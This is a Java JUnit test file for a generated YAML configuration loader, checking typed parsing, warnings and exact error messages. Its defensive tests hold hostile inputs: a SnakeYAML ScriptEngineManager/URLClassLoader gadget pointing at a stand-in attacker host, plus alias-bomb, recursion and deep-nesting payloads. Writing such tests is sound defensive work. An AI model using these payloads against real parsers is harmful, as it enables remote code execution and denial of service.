package io.github.ddassets.processor;

import static com.google.testing.compile.CompilationSubject.assertThat;
import static io.github.ddassets.processor.Compilations.compile;
import static io.github.ddassets.processor.Compilations.resource;
import static io.github.ddassets.processor.Compilations.source;
import static io.github.ddassets.processor.Compilations.testTemplates;
import static org.assertj.core.api.Assertions.assertThat;

import com.google.testing.compile.Compilation;
import java.lang.reflect.InvocationTargetException;
import java.lang.reflect.Method;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The generated loader, compiled with the test sources and run on good and bad conf.yaml texts:
 * values, defaults, warnings, and the exact message of each problem.
 */
class ConfigLoaderTest {

  private static final String LOADER = "test.AcmeCheckConfigLoader";

  /** A class whose initialization a YAML tag would trigger if tags were ever constructed. */
  private static final String TRAP =
      "package test;\n"
          + "public final class Trap {\n"
          + "  static { System.setProperty(\"ddassets.trap\", \"sprung\"); }\n"
          + "  public Trap() {}\n"
          + "}\n";

  private static GeneratedClasses classes;

  @BeforeAll
  static void compileAcme() {
    Compilation compilation =
        compile(
            List.of(testTemplates()),
            resource("config/AcmeCheck.java"),
            resource("config/AcmeInstance.java"),
            resource("config/AcmeMode.java"),
            com.google.testing.compile.JavaFileObjects.forSourceString("test.Trap", TRAP));
    assertThat(compilation).succeededWithoutWarnings();
    classes = new GeneratedClasses(compilation);
  }

  @Test
  void goodFile_givesTypedRecordsWithDefaults() throws Exception {
    Object config =
        parse(
            "init_config:\n"
                + "instances:\n"
                + "  - url: http://localhost:8080\n"
                + "    queues: [orders, payments]\n"
                + "    relay: {host: relay.local}\n"
                + "    endpoints: /health\n"
                + "    labels: {team: core}\n"
                + "    weights: {orders: 2, payments: 0.5}\n"
                + "    extra: {any: [thing, 1]}\n"
                + "    tags: [env:prod]\n");

    assertThat(config)
        .hasToString(
            "Config[initConfig=Init[timeout=10], instances=[AcmeInstance[url=http://localhost:8080,"
                + " apiKey=null, verify=false, port=8080, queues=[orders, payments], mode=DIGEST,"
                + " labels={team=core}, relay=Relay[host=relay.local, port=3128],"
                + " endpoints=[/health], oldTimeout=null, debug=false,"
                + " weights={orders=2.0, payments=0.5}, extra={any=[thing, 1]}]], warnings=[]]");
  }

  @Test
  void unknownKey_isAWarning() throws Exception {
    Object config =
        parse("instances:\n  - url: http://x\n    prot: 8080\n    tags: [a]\n    colour: red\n");

    assertThat(warnings(config))
        .containsExactly(
            "conf.yaml:3:5: instances[0].prot: unknown key, ignored",
            "conf.yaml:5:5: instances[0].colour: unknown key, ignored");
  }

  @Test
  void wrongTypes_areEachReportedWithPositionAndPath() {
    assertThat(
            problems(
                "init_config:\n"
                    + "  timeout: abc\n"
                    + "instances:\n"
                    + "  - url: http://x\n"
                    + "    verify: maybe\n"
                    + "    port: 80.5\n"
                    + "    queues: orders\n"
                    + "    relay: {host: [a]}\n"
                    + "    weights: {orders: heavy}\n"
                    + "    extra: [1, 2]\n"))
        .containsExactly(
            "conf.yaml:2:12: init_config.timeout: expected an integer, found \"abc\"",
            "conf.yaml:5:13: instances[0].verify: expected true or false, found \"maybe\"",
            "conf.yaml:6:11: instances[0].port: expected an integer, found 80.5",
            "conf.yaml:7:13: instances[0].queues: expected a list, found \"orders\"",
            "conf.yaml:8:19: instances[0].relay.host: expected a string, found a list",
            "conf.yaml:9:23: instances[0].weights.orders: expected a number, found \"heavy\"",
            "conf.yaml:10:12: instances[0].extra: expected a string or a mapping, found a list");
  }

  @Test
  void missingRequiredKey_isReportedOnItsMapping() {
    assertThat(problems("instances:\n  - port: 80\n  - url: http://y\n    relay: {port: 1}\n"))
        .containsExactly(
            "conf.yaml:2:5: instances[0].url: missing required key",
            "conf.yaml:4:12: instances[1].relay.host: missing required key");
  }

  @Test
  void missingInstances_isReported() {
    assertThat(problems("init_config: {}\n"))
        .containsExactly("conf.yaml:1:1: instances: missing required key");
  }

  @Test
  void badEnum_listsTheAllowedValues() {
    assertThat(problems("instances:\n  - url: http://x\n    mode: ntlm\n"))
        .containsExactly(
            "conf.yaml:3:11: instances[0].mode: expected one of basic, digest, found \"ntlm\"");
  }

  @Test
  void outOfBounds_andPatternMismatch_areReported() {
    assertThat(
            problems("instances:\n  - url: http://x\n    port: 70000\n    queues: [ok, Not-OK]\n"))
        .containsExactly(
            "conf.yaml:3:11: instances[0].port: 70000 is greater than the maximum 65535",
            "conf.yaml:4:18: instances[0].queues[1]: \"Not-OK\" does not match the pattern"
                + " ^[a-z]+$");
    assertThat(problems("instances:\n  - url: http://x\n    port: 0\n"))
        .containsExactly("conf.yaml:3:11: instances[0].port: 0 is less than the minimum 1");
  }

  @Test
  void yamlSyntaxError_isReportedWithItsPosition() {
    assertThat(problems("instances:\n  - url: [unclosed\n"))
        .containsExactly("conf.yaml:3:1: expected ',' or ']', but got <stream end>");
    assertThat(problems("instances:\n  - url: a\n   bad: b\n"))
        .containsExactly("conf.yaml:3:4: expected <block end>, but found '<block mapping start>'");
  }

  @Test
  void aliasBomb_isRefused() {
    StringBuilder bomb = new StringBuilder("a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for (char level = 'b'; level <= 'i'; level++) {
      char previous = (char) (level - 1);
      bomb.append(level).append(": &").append(level).append(" [");
      bomb.append(String.join(", ", java.util.Collections.nCopies(9, "*" + previous)));
      bomb.append("]\n");
    }
    bomb.append("instances: [{url: x, extra: *i}]\n");

    // The first alias of the sixth list takes the document over the value budget, long before
    // the aliases run out: the refusal points at that alias.
    assertThat(problems(bomb.toString()))
        .containsExactly(
            "conf.yaml:6:8: the document holds more than 100000 values (an alias bomb?)");
  }

  @Test
  void moreThan50AliasesToCollections_areRefusedAtTheFirstOneTooMany() {
    String aliases = String.join(", ", java.util.Collections.nCopies(51, "*a"));

    assertThat(problems("a: &a [x]\ninstances: [{url: x, extra: [" + aliases + "]}]\n"))
        .containsExactly("conf.yaml:2:230: more than 50 aliases to lists or mappings");
  }

  @Test
  void recursiveAliases_areRefusedAtTheAlias() {
    assertThat(problems("instances: [{url: x, extra: &a [*a]}]\n"))
        .containsExactly(
            "conf.yaml:1:33: the alias *a is inside the node it names: recursive documents are"
                + " not supported");
    assertThat(problems("instances: [{url: x, extra: &a {k: *a}}]\n"))
        .containsExactly(
            "conf.yaml:1:36: the alias *a is inside the node it names: recursive documents are"
                + " not supported");
  }

  @Test
  void nestingDeeperThan50_isRefusedWhereItGoesTooDeep() {
    assertThat(problems("instances: [{url: x, extra: " + "[".repeat(60) + "]".repeat(60) + "}]\n"))
        .containsExactly("conf.yaml:1:76: lists and mappings nest more than 50 levels deep");
  }

  @Test
  void documentOverTheCharacterBudget_isRefusedWhereTheBudgetEnds() {
    assertThat(problems("instances:\n# " + "x".repeat(2_000_000) + "\n"))
        .containsExactly(
            "conf.yaml:2:1048566: the document is longer than 1048576 characters (comments"
                + " included), the most the loader reads");
  }

  @Test
  void emptyAndCommentOnlyDocuments_areLocated() {
    assertThat(problems("")).containsExactly("conf.yaml:1:1: instances: missing required key");
    assertThat(problems("# just a comment\n"))
        .containsExactly("conf.yaml:1:1: instances: missing required key");
  }

  @Test
  void binaryText_isLocated() {
    assertThat(problems("instances:\n  - url: \u0007\n"))
        .containsExactly("conf.yaml:2:10: the character U+0007 is not allowed in YAML");
  }

  @Test
  void longValues_areEchoedCutTo120Characters() {
    List<String> problems =
        problems("instances:\n  - url: x\n    port: " + "y".repeat(5000) + "\n");

    assertThat(problems)
        .containsExactly(
            "conf.yaml:3:11: instances[0].port: expected an integer, found \""
                + "y".repeat(117)
                + "...\"");
  }

  @Test
  void fileOnDisk_thatIsNotUtf8_isLocated(@TempDir Path dir) throws Exception {
    Path file = dir.resolve("conf.yaml");
    Files.write(file, new byte[] {'i', 'n', 's', 't', ':', '\n', (byte) 0xC3, '('});
    Method load = loader().getMethod("load", Path.class);

    Throwable thrown =
        org.assertj.core.api.Assertions.catchThrowable(() -> load.invoke(null, file));

    Throwable invalid = thrown.getCause();
    assertThat(invalid.getClass().getSimpleName()).isEqualTo("InvalidConfigException");
    assertThat(invalid.getMessage())
        .isEqualTo(
            file
                + " is not a valid configuration:\n"
                + file
                + ":2:1: the file is not valid"
                + " UTF-8 (byte 0xc3)");
  }

  @Test
  void fileOnDisk_thatIsAFolder_isAnIoException(@TempDir Path dir) throws Exception {
    Method load = loader().getMethod("load", Path.class);

    Throwable thrown = org.assertj.core.api.Assertions.catchThrowable(() -> load.invoke(null, dir));

    assertThat(thrown.getCause())
        .isInstanceOf(java.io.IOException.class)
        .hasMessage("is a folder, not a file");
  }

  @Test
  void smallerAliasFanOut_isCountedWhileReading() {
    // 40 aliases stay under SnakeYAML's limit, but 10^4 values under `extra` would be read.
    StringBuilder fan = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x, x]\n");
    String[] levels = {"a", "b", "c", "d", "e"};
    for (int i = 1; i < levels.length; i++) {
      fan.append(levels[i]).append(": &").append(levels[i]).append(" [");
      fan.append(String.join(", ", java.util.Collections.nCopies(10, "*" + levels[i - 1])));
      fan.append("]\n");
    }
    fan.append("instances: [{url: x, extra: [*e, *e, *e, *e, *e, *e, *e, *e, *e, *e]}]\n");

    assertThat(problems(fan.toString()))
        .hasSize(1)
        .first()
        .asString()
        .endsWith(": the document holds more than 100000 values (an alias bomb?)");
  }

  @Test
  void javaTypeTags_areRefusedAndNeverConstructed() {
    assertThat(
            problems(
                "instances:\n"
                    + "  - url: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                    + " [[!!java.net.URL [\"http://attacker.example/\"]]]]\n"))
        .containsExactly(
            "conf.yaml:2:10: Global tag is not allowed:"
                + " tag:yaml.org,2002:javax.script.ScriptEngineManager");
    assertThat(problems("instances:\n  - url: x\n    extra: !!test.Trap {}\n"))
        .containsExactly("conf.yaml:3:12: Global tag is not allowed: tag:yaml.org,2002:test.Trap");
    assertThat(System.getProperty("ddassets.trap")).isNull();
  }

  @Test
  void localTags_areRefused() {
    assertThat(problems("instances:\n  - url: !custom x\n"))
        .containsExactly("conf.yaml:2:10: instances[0].url: the tag !custom is not allowed");
  }

  @Test
  void duplicateKey_isReported() {
    assertThat(problems("instances:\n  - url: http://x\n    url: http://y\n"))
        .containsExactly("conf.yaml:3:5: instances[0].url: is set twice");
  }

  @Test
  void fileOnDisk_isReadAsUtf8(@TempDir Path dir) throws Exception {
    Path file = dir.resolve("conf.yaml");
    Files.writeString(file, "instances:\n  - url: http://café.example\n", StandardCharsets.UTF_8);
    Method load = loader().getMethod("load", Path.class);

    Object config = load.invoke(null, file);

    assertThat(config.toString()).contains("url=http://café.example");
  }

  @Test
  void rejectingConstructor_becomesAProblem() throws Exception {
    Compilation compilation =
        compile(
            List.of(testTemplates()),
            source(
                "test.Strict",
                "package test;",
                "import io.github.ddassets.annotations.*;",
                "@Integration(name = \"strict\")",
                "public final class Strict {",
                "  /** @param host The host. */",
                "  @InstanceConfig public record Instance(@Param(example = \"x\") String host) {",
                "    public Instance {",
                "      if (host != null && host.contains(\" \")) {",
                "        throw new IllegalArgumentException(\"a host has no spaces\");",
                "      }",
                "    }",
                "  }",
                "}"));
    assertThat(compilation).succeededWithoutWarnings();
    Class<?> loader = new GeneratedClasses(compilation).loadClass("test.StrictConfigLoader");

    assertThat(problems(loader, "instances:\n  - host: a b\n"))
        .containsExactly("conf.yaml:2:5: instances[0]: is invalid: a host has no spaces");
  }

  @Test
  void loader_isNotGeneratedWhenTheConfigurationHasErrors() {
    javax.tools.JavaFileObject broken =
        source(
            "test.Broken",
            "package test;",
            "import io.github.ddassets.annotations.*;",
            "@Integration(name = \"broken\")",
            "public final class Broken {",
            "  /** @param port The port. */",
            "  @InstanceConfig public record Instance(@Param(defaultValue = \"abc\") int port) {}",
            "}");
    Compilation compilation = compile(List.of(testTemplates()), broken);

    assertThat(compilation).hadErrorContaining("[source-param-default]");
    assertThat(Compilations.sourcesWrittenToDisk(List.of(testTemplates()), List.of(broken)))
        .isEmpty();
  }

  private static Object parse(String text) throws Exception {
    try {
      return loader()
          .getMethod("parse", String.class, String.class)
          .invoke(null, text, "conf.yaml");
    } catch (InvocationTargetException e) {
      throw (Exception) e.getCause();
    }
  }

  private static List<String> problems(String text) {
    return problems(loader(), text);
  }

  @SuppressWarnings("unchecked")
  private static List<String> problems(Class<?> loader, String text) {
    Throwable thrown =
        org.assertj.core.api.Assertions.catchThrowable(
            () ->
                loader
                    .getMethod("parse", String.class, String.class)
                    .invoke(null, text, "conf.yaml"));
    assertThat(thrown).isInstanceOf(InvocationTargetException.class);
    Throwable invalid = thrown.getCause();
    assertThat(invalid.getClass().getSimpleName()).isEqualTo("InvalidConfigException");
    try {
      return (List<String>) invalid.getClass().getMethod("problems").invoke(invalid);
    } catch (ReflectiveOperationException e) {
      throw new AssertionError(e);
    }
  }

  @SuppressWarnings("unchecked")
  private static List<String> warnings(Object config) throws ReflectiveOperationException {
    return (List<String>) config.getClass().getMethod("warnings").invoke(config);
  }

  private static Class<?> loader() {
    try {
      return classes.loadClass(LOADER);
    } catch (ClassNotFoundException e) {
      throw new AssertionError("the loader was not generated", e);
    }
  }
}
